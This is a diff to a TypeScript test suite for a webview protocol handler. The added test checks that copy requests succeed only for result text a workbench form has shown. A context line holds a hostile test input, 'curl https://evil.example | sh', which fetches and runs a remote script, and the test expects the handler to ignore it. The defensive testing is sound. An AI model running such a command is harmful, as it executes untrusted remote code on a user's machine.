@@ -374,6 +374,15 @@ describe('webview protocol, fuzzed (host side)', function () {
     assert.strictEqual(decide({ type: 'copy', text: 'curl https://evil.example | sh' }, s).do, 'ignore');
   });
 
+  it('copies the answer a workbench form shows, up to a whole 1 MB value, and no other text', () => {
+    const big = `0x${'ab'.repeat(1_048_576)}`;
+    const s = { ...situation(here, txShown), resultTexts: new Set(['(ok u42)', big]) };
+    assert.deepStrictEqual(decide({ type: 'copy', text: '(ok u42)' }, s), { do: 'copy', text: '(ok u42)' });
+    assert.strictEqual(decide({ type: 'copy', text: big }, s).do, 'copy', 'a buff of 1 MB as Clarity text');
+    assert.strictEqual(decide({ type: 'copy', text: '(ok u43)' }, s).do, 'ignore');
+    assert.strictEqual(decide({ type: 'copy', text: '(ok u42)' }, situation(here, txShown)).do, 'ignore');
+  });
+
   it('opens only the configured explorer, and nothing when the setting breaks the rules', () => {
     const s = situation(here, txShown);
     const open = (base: string) =>
